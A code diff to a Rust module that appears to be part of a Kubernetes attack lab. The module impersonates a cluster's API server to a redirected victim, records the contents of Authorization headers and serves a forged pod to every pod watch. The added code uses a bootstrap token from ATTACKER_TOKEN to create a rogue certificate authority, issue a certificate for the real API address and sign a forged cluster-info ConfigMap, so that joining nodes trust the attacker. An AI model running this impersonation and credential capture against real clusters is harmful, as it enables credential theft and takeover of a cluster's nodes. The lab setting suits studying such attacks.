@@ -3,12 +3,16 @@
 //! Whoever verifies gets no further than a handshake. Whoever does not is asked for everything it would show a
 //! real one: what stands in `Authorization` is noted, and every watch of pods is told of a forged one. A client
 //! certificate is seen and cannot be passed on; the forged pod needs no credential at all. Everything else is
-//! answered 503, so that a victim waits and goes on as before when it is let go.
+//! answered 503, so that a victim waits and goes on as before when it is let go. With a bootstrap token in
+//! ATTACKER_TOKEN it has an authority of its own and says so in a cluster-info that the token signs.
 
 use std::convert::Infallible;
-use std::net::{Ipv4Addr, SocketAddrV4};
+use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};
 
+use anyhow::Context;
 use axum::body::Body;
+use base64::Engine;
+use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
 use clap::Args;
 use futures_util::StreamExt;
 use http::{Method, Request, Response, StatusCode};
@@ -40,13 +44,20 @@ impl FakeHub {
         let phone = crate::net::bind("0.0.0.0:0".parse()?).await?;
         let home = format!("{}:{}", crate::lab::plan::BALANCER, phone.local_addr()?.port());
         let pod: Value = serde_json::from_str(&self.pod.replace("${phone}", &home))?;
-        let issued = pki::self_signed_serving("kubernetes")?;
+        let (issued, info) = match std::env::var("ATTACKER_TOKEN") {
+            Ok(token) => forged_cluster(&token)?,
+            Err(_) => (pki::self_signed_serving("kubernetes")?, Value::Null),
+        };
         let identity = Identity { cert_pem: issued.cert_pem.into(), key_pem: issued.key_pem.into() };
         let server = Server::new(ServingCert::new(&identity)?, Protocols::H2AndH1, "fake")?;
         let stop = CancellationToken::new();
         let over = stop.clone();
         let service = tower::service_fn(move |request: Request<hyper::body::Incoming>| {
-            let answer = answer(&request, &pod, &over);
+            let discovers = request.uri().path().ends_with("/cluster-info") && !info.is_null();
+            let mut answer = answer(&request, &pod, &over);
+            if discovers {
+                answer = json_response(StatusCode::OK, &info);
+            }
             async move { Ok::<_, Infallible>(answer) }
         });
         let redirected = redirect_from(self.from, self.victim, here)?;
@@ -61,6 +72,30 @@ impl FakeHub {
         drop(redirected);
         Ok(())
     }
+}
+
+/// A certificate for the real address from an authority nobody heard of, and the ConfigMap that names it.
+fn forged_cluster(token: &str) -> anyhow::Result<(pki::Issued, Value)> {
+    let (id, secret) = token.split_once('.').context("a bootstrap token is ID.SECRET")?;
+    let authority = pki::Authority::new("kubernetes")?;
+    let leaf = pki::LeafSpec::server("kube-apiserver", &["kubernetes"], &[IpAddr::V4(standing())]);
+    let cluster = crate::client::Cluster {
+        server: crate::lab::plan::endpoint(),
+        certificate_authority_data: Some(BASE64_STANDARD.encode(authority.cert_pem())),
+        ..Default::default()
+    };
+    let user = crate::client::User::default();
+    let kubeconfig = crate::client::Kubeconfig::single("", "", "", cluster, user).to_yaml();
+    let header = BASE64_URL_SAFE_NO_PAD.encode(json!({"alg": "HS256", "kid": id}).to_string());
+    let signed = format!("{header}.{}", BASE64_URL_SAFE_NO_PAD.encode(&kubeconfig));
+    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret.as_bytes());
+    let tag = BASE64_URL_SAFE_NO_PAD.encode(ring::hmac::sign(&key, signed.as_bytes()));
+    let info = json!({
+        "apiVersion": "v1", "kind": "ConfigMap",
+        "metadata": {"name": "cluster-info", "namespace": "kube-public"},
+        "data": {"kubeconfig": kubeconfig, format!("jws-kubeconfig-{id}"): format!("{header}..{tag}")},
+    });
+    Ok((authority.issue(&leaf)?, info))
 }
 
 fn answer(request: &Request<hyper::body::Incoming>, pod: &Value, over: &CancellationToken) -> Response<Body> {
